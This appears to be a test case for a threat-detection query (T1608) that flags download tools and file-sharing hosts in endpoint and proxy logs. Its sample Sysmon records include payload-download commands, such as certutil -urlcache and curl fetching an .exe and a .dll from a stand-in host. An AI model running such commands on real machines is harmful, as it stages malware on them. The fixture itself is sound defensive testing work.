# the T1608 query, as written, over endpoint and proxy
--- query
_sourceCategory=endpoint/windows OR _sourceCategory=proxy/access | json auto | where (process_name in ("curl.exe", "wget.exe", "certutil.exe", "bitsadmin.exe", "powershell.exe") and (command_line matches "*.exe" or command_line matches "*.dll" or command_line matches "*.bin")) or (url matches "*transfer.sh*" or url matches "*paste.ee*" or url matches "*gofile.io*") | if(matches(process_name, "*certutil*") and matches(command_line, "*urlcache*"), "High", if(matches(url, "*transfer.sh*") or matches(url, "*gofile.io*"), "High", "Medium")) as RiskLevel | count by src_ip, process_name, RiskLevel | sort by count desc
--- input endpoint/windows=sysmon.json
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://a.example/x.exe C:\\x.exe"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\curl.exe","CommandLine":"curl -O http://a.example/x.dll"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\curl.exe","CommandLine":"curl -O http://a.example/x.dll --retry 3"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\notepad.exe","CommandLine":"notepad x.exe"}
--- input proxy/access=squid.log
1795486913.747     13 10.0.0.2 TCP_TUNNEL/200 3373 CONNECT transfer.sh:443 - HIER_DIRECT/203.0.113.1 -
1795486913.748     13 10.0.0.2 TCP_TUNNEL/200 3373 CONNECT transfer.sh:443 - HIER_DIRECT/203.0.113.1 -
1795486913.863      4 10.0.0.4 TCP_MISS/200 1264 GET http://paste.ee/r/a - HIER_DIRECT/203.0.113.7 text/plain
1795486913.864      4 10.0.0.4 TCP_MISS/200 1264 GET http://intranet.example/r/a - HIER_DIRECT/203.0.113.7 text/plain
--- input other=other.log
1795486913.747     13 10.0.0.9 TCP_TUNNEL/200 3373 CONNECT gofile.io:443 - HIER_DIRECT/203.0.113.1 -
--- output ndjson
{"src_ip":"10.0.0.2","process_name":null,"RiskLevel":"High","_count":2}
{"src_ip":"10.0.0.4","process_name":null,"RiskLevel":"Medium","_count":1}
{"src_ip":null,"process_name":"certutil.exe","RiskLevel":"High","_count":1}
{"src_ip":null,"process_name":"curl.exe","RiskLevel":"Medium","_count":1}
